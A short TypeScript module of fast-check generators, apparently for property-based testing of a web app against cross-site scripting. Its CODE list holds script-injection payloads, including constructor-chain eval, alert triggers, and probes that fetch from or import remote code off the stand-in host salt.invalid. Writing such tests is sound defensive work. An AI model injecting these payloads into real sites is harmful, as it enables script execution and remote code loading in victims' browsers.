import fc from 'fast-check'

/** One of the values. */
export const one = <T>(...values: T[]): fc.Arbitrary<T> => fc.constantFrom(...values)

/** The parts one after the other. */
export const joined = (...parts: fc.Arbitrary<string>[]): fc.Arbitrary<string> =>
  fc.tuple(...parts).map((texts) => texts.join(''))

/** What runs, shows or asks for something where text became code. `__x` is looked for on each page. */
export const CODE = one(
  'window.__x=1',
  'alert(1)',
  'print()',
  "fetch('//salt.invalid/')",
  "new Image().src='//salt.invalid/'",
  "import('//salt.invalid/x.js')",
  "[]['constructor']['constructor']('window.__x=1')()",
  "setTimeout('window.__x=1')",
  'throw onerror=alert,1',
  'window[`__x`]=1',
)

/** Words of several scripts, a figure, addresses. */
export const WORD = one(
  'salt',
  'Quay',
  'a',
  'B',
  '1',
  '12',
  'é',
  '소금',
  'соль',
  'ملح',
  '🧂',
  'http://salt.example',
  'x@salt.example',
)
